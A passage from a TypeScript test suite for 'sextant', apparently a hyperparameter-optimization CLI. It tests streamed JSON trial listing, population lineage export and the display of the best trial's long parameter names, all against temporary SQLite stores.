      expect(await said("big", true)).toEqual({ code: 0, out: JSON.stringify({ deleted: "big", trials: 2002 }) });
      expect(await said("empty", true)).toEqual({ code: 0, out: JSON.stringify({ deleted: "empty", trials: 0 }) });
      expect(readAll).not.toHaveBeenCalled();
    } finally {
      readAll.mockRestore();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("sextant trials --json", () => {
  it("writes a large study's trials a piece at a time, the same JSON as one JSON.stringify of them all", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-trials-json-"));
    try {
      const url = `sqlite:${join(dir, "s.db")}`;
      const storage = SqliteStorage.open(join(dir, "s.db"));
      const study = await storage.createStudy("big", ["minimize"]);
      await storage.createStudy("empty", ["minimize"]);
      const x: Distribution = { type: "float", low: 0, high: 1 };
      await storage.insertTrials!(
        study.id,
        Array.from({ length: 3_000 }, (_, i) => ({
          state: i % 7 === 0 ? ("failed" as const) : ("complete" as const),
          params: { x: i / 3_000 },
          distributions: { x },
          values: i % 7 === 0 ? null : [i === 5 ? Infinity : i / 7],
          intermediate: (i % 3 === 0 ? { 0: i, 2: NaN } : {}) as Record<number, number>,
          userAttrs: { note: `line\nbreak ${i}` },
          systemAttrs: (i % 7 === 0 ? { failReason: "exit code 1" } : {}) as Record<string, string>,
          startedAt: 1_600_000_000_000 + i,
          finishedAt: 1_600_000_001_000 + i,
        })),
      );
      await storage.createTrial(study.id, { state: "waiting" });
      const all = (await storage.trialsSince(study.id, 0)).trials;
      await storage.close();
      const printed = async (name: string, state?: string) => {
        const writes: string[] = [];
        const io: Io = { ...quietIo, out: (line) => writes.push(`${line}\n`), write: (text) => writes.push(text) };
        expect(await listTrialsCommand(name, { storage: url, json: true, ...(state ? { state } : {}) }, io)).toBe(0);
        return writes;
      };
      const writes = await printed("big");
      // 1.2 MB of JSON: made whole, it went out in one write after all of it was built.
      expect(writes.length).toBeGreaterThan(10);
      expect(writes.join("")).toBe(`${JSON.stringify(all.map(trialJson), null, 2)}\n`);
      expect((await printed("big", "waiting")).join("")).toBe(`${JSON.stringify([trialJson(all.at(-1)!)], null, 2)}\n`);
      expect((await printed("empty")).join("")).toBe("[]\n");
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("sextant export --lineage", () => {
  it("reads only a population's segments, and says a study without one has none without reading every trial", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-lineage-"));
    const readAll = vi.spyOn(SqliteStorage.prototype, "trialsSince");
    try {
      const url = `sqlite:${join(dir, "s.db")}`;
      const storage = SqliteStorage.open(join(dir, "s.db"));
      const pop = await storage.createStudy("pop", ["maximize"]);
      const plain = await storage.createStudy("plain", ["maximize"]);
      await storage.queueTrials!(plain.id, 500);
      const x: Distribution = { type: "float", low: 0, high: 1 };
      // Two members of three segments, the second member copying the first once, between trials that are no segments.
      for (let i = 0; i < 12; i++) {
        const segment = i % 2 === 0 ? null : { member: (i >> 1) % 2, segment: i >> 2, parent: i >= 4 ? i - 4 : null, exploitedFrom: i === 7 ? 1 : null, checkpoint: i >= 4 ? `ck-${i - 4}` : null };
        const trial = await storage.createTrial(pop.id, { state: "running", params: { x: i / 12 }, distributions: { x }, systemAttrs: segment ? segmentAttrs(segment) : { note: "other" } });
        await storage.updateTrial(trial.id, { state: "complete", values: [i] });
      }
      await storage.createTrial(pop.id, { state: "waiting" });
      const all = (await storage.trialsSince(pop.id, 0)).trials;
      await storage.close();
      readAll.mockClear();
      let text = "";
      const io: Io = { ...quietIo, out: (line) => (text += `${line}\n`), write: (piece) => (text += piece) };
      expect(await exportCommand("pop", { storage: url, lineage: true, json: true }, io)).toBe(0);
      const exported = JSON.parse(text) as { members: unknown[] };
      expect(exported.members).toEqual(JSON.parse(JSON.stringify(populationLineage(all))));
      expect(exported.members).toHaveLength(2);
      await expect(exportCommand("plain", { storage: url, lineage: true }, io)).rejects.toThrow('study "plain" has no population');
      expect(readAll).not.toHaveBeenCalled();
    } finally {
      readAll.mockRestore();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("sextant best with long parameter names and values", () => {
  it("prints the best trial's parameters whole, to be copied, where a categorical choice was cut at 40 columns", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sextant-best-"));
    try {
      const choice = "checkpoints/resnet-50-imagenet-pretrained-warmup-cosine-v2.pt";
      const name = "learning_rate_of_the_encoder_after_warmup_in_units";
      const storage = SqliteStorage.open(join(dir, "s.db"));
      for (const [study, constraints] of [["plain", undefined], ["infeasible", [1]]] as const) {
        const record = await storage.createStudy(study, ["minimize"]);
        const trial = await storage.createTrial(record.id, { state: "running", ...(constraints ? { systemAttrs: { constraints: [...constraints] } } : {}) });
        await storage.updateTrial(trial.id, {
          params: { model: { value: choice, distribution: { type: "categorical", choices: [choice, "small"] } }, [name]: { value: 0.5, distribution: { type: "float", low: 0, high: 1 } } },
          state: "complete",
          values: [1],
        });
      }
      await storage.close();
      for (const study of ["plain", "infeasible"]) {
        const out: string[] = [];
        const io: Io = { ...quietIo, out: (line) => void out.push(line) };
        expect(await bestCommand(study, { storage: `sqlite:${join(dir, "s.db")}` }, io)).toBe(0);
        const lines = out.join("\n").split("\n").map((line) => line.trimEnd());
        expect(lines, study).toContain(`model${" ".repeat(name.length - "model".length)}  ${choice}`);
        expect(lines.some((line) => line.startsWith(`${name}  `) && line.endsWith("0.5")), study).toBe(true);
      }
    } finally {
      rmSync(dir, { recursive: true });
    }
  });
});
